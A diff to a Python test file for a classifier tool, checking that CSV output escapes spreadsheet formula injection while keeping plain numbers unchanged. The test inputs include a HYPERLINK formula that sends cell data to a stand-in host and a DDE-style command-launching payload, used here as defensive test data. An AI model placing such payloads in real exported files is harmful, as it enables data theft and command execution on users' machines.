@@ -188,14 +188,16 @@ def test_file_names_that_are_not_utf8_are_classified_under_printable_ids(
 )
 def test_csv_output_never_holds_a_cell_a_spreadsheet_runs(monkeypatch, capsys, ckpt, tmp_path):
     ids = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|calc!A0", "-2+3", "@SUM(A1)"]
+    numbers = ["-1", "+0.5", "-2e3"]  # values, not formulas: kept as they are
     table = tmp_path / "in.jsonl"
-    table.write_text("".join(json.dumps({"id": i, "body": "Shares rose."}) + "\n" for i in ids))
+    rows = [*ids, *numbers]
+    table.write_text("".join(json.dumps({"id": i, "body": "Shares rose."}) + "\n" for i in rows))
     for out in ("out.csv", "out.jsonl"):
         run_classify(monkeypatch, capsys, ckpt, [str(table), "--out", str(tmp_path / out)])
     with open(tmp_path / "out.csv", newline="") as handle:
-        assert [row["id"] for row in csv.DictReader(handle)] == [f"'{i}" for i in ids]
+        assert [row["id"] for row in csv.DictReader(handle)] == [f"'{i}" for i in ids] + numbers
     lines = (tmp_path / "out.jsonl").read_text().splitlines()
-    assert [json.loads(line)["id"] for line in lines] == ids
+    assert [json.loads(line)["id"] for line in lines] == rows
 
 
 def test_csv_output_parses_with_a_column_per_class(monkeypatch, capsys, ckpt, inputs, tmp_path):
